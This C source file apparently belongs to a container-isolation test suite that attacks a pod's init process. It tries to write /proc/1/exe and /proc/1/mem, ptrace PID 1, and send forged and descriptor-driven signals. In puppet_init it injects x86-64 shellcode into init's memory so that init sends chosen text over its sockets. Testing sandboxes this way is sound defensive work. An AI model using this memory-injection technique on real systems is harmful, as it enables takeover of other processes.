/* SPDX-License-Identifier: Apache-2.0 */
/* The pod's init: its program, its memory, its rights, and the signals that it gets. */
#include "hostile.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>

/* A running program can't be written to anyway (ETXTBSY): what counts is that its mount is read-only. */
static void runtime(void)
{
    if (utimensat(AT_FDCWD, "/proc/1/exe", NULL, 0) >= 0)
        through("the program of the pod's init can be changed");
    open_for_writing("/proc/1/exe");
    climb("/proc/1/exe/..");
}

static long trace(long pid)
{
    return ptrace(PTRACE_SEIZE, (pid_t) pid, NULL, NULL);
}

static void memory_of_init(void)
{
    int fd = open("/proc/1/mem", O_RDWR | O_CLOEXEC);

    if (fd >= 0)
        through("the memory of the pod's init can be written");
    if (!is_refusal(outcome(trace, 1)))
        through("the pod's init can be traced");
}

/* *ret_filters: how many filters it has. */
static unsigned long long init_rights(unsigned *ret_filters)
{
    FILE *file = fopen("/proc/1/status", "re");
    unsigned long long rights, all = 0;
    char line[4096];

    *ret_filters = 0;
    while (file && fgets(line, sizeof(line), file))
        if (sscanf(line, "Seccomp_filters: %u", ret_filters) != 1 &&
            (sscanf(line, "CapPrm: %llx", &rights) == 1 || sscanf(line, "CapBnd: %llx", &rights) == 1))
            all |= rights;
    if (file)
        fclose(file);
    return all;
}

static const unsigned long long kept = 1ULL << 5; /* KILL */

/* Whoever may take over the pod's init must not win anything, from its first instruction on. */
static void rights_at_once(void)
{
    unsigned filters;
    unsigned long long rights = init_rights(&filters);

    if (rights != kept)
        through("the init has %#llx", rights);
    if (filters == 0)
        through("the init may call all of the kernel");
}

/* Others could not, and it may need a moment to get there. */
static void rights_of_init(void)
{
    unsigned filters;

    for (unsigned i = 0; i < 100 && init_rights(&filters) != kept; i++)
        usleep(50 * 1000);
    if (init_rights(&filters) != kept)
        through("%#llx", init_rights(&filters));
}

#ifdef __x86_64__
/* Sends the text to each descriptor that is a socket, then sleeps for ever. */
__asm__(".pushsection .rodata\n"
        "puppet:\n"
        "    movl $3, %ebx\n"
        "1:  movl %ebx, %edi\n"
        "    leaq puppet_text(%rip), %rsi\n"
        "    movl $64, %edx\n"
        "    movl $0x4040, %r10d\n" /* MSG_DONTWAIT | MSG_NOSIGNAL */
        "    xorl %r8d, %r8d\n"
        "    xorl %r9d, %r9d\n"
        "    movl $44, %eax\n"
        "    syscall\n"
        "    incl %ebx\n"
        "    cmpl $256, %ebx\n"
        "    jb 1b\n"
        "2:  movl $34, %eax\n"
        "    syscall\n"
        "    jmp 2b\n"
        "puppet_text:\n"
        "    .fill 64, 1, 10\n"
        "puppet_end:\n"
        ".popsection\n");
extern const char puppet[], puppet_text[], puppet_end[];

/* Where the system call that the pod's init waits in returns to; 0: it can't be told. */
static off_t where_init_waits(void)
{
    char line[256] = "";

    for (unsigned i = 0; i < 40; i++) {
        FILE *file = fopen("/proc/1/syscall", "re");
        const char *last = file && fgets(line, sizeof(line), file) ? strrchr(line, ' ') : NULL;

        if (file)
            fclose(file);
        if (last && *line >= '0' && *line <= '9')
            return (off_t) strtoul(last, NULL, 16);
        usleep(50 * 1000);
    }
    return 0;
}

/* The pod's init runs what we write there, and is woken. Its text goes to whoever it has a socket to: $WORDS.
 */
static void puppet_init(void)
{
    int memory = open("/proc/1/mem", O_RDWR | O_CLOEXEC),
        console = open("/dev/console", O_WRONLY | O_CLOEXEC);
    const char *words = getenv("WORDS");
    size_t size = (size_t) (puppet_end - puppet);
    off_t where = where_init_waits();
    char code[512];

    memcpy(code, puppet, size);
    if (words)
        memcpy(code + (puppet_text - puppet), words, strlen(words));
    if (where == 0 || pwrite(memory, code, size, where) != (ssize_t) size || write(console, "\n", 1) != 1)
        printf("%s=not tried: %s\n", attack, strerror(errno));
    else
        printf("%s=sent\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}
#else
static void puppet_init(void)
{
    printf("%s=not tried\n", attack);
    fflush(stdout);
    for (;;)
        pause();
}
#endif

/* As if the host had sent it: sender 0, which the kernel lets anybody claim. */
static void queue_forged(int number)
{
    siginfo_t info = { .si_signo = number, .si_code = SI_QUEUE };

    syscall(SYS_rt_sigqueueinfo, 1, number, &info);
}

/* A descriptor that has the kernel send it. */
static void send_by_descriptor(int number)
{
    int pair[2];

    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
        return;
    fcntl(pair[0], F_SETOWN, 1);
    fcntl(pair[0], F_SETSIG, number);
    fcntl(pair[0], F_SETFL, O_ASYNC);
    if (write(pair[1], "x", 1) < 0)
        through("no signal was sent");
    close(pair[0]);
    close(pair[1]);
}

/* Whether the init minds shows only later, from outside. */
static void signals(void)
{
    for (int number = 1; number <= SIGRTMAX; number++) {
        kill(1, number);
        queue_forged(number);
        send_by_descriptor(number);
    }
}

const Attack init_attacks[] = {
    { "runtime", runtime },
    { "memory-of-init", memory_of_init },
    { "rights-at-once", rights_at_once },
    { "rights-of-init", rights_of_init },
    { "puppet-init", puppet_init },
    { "signals", signals },
    {},
};
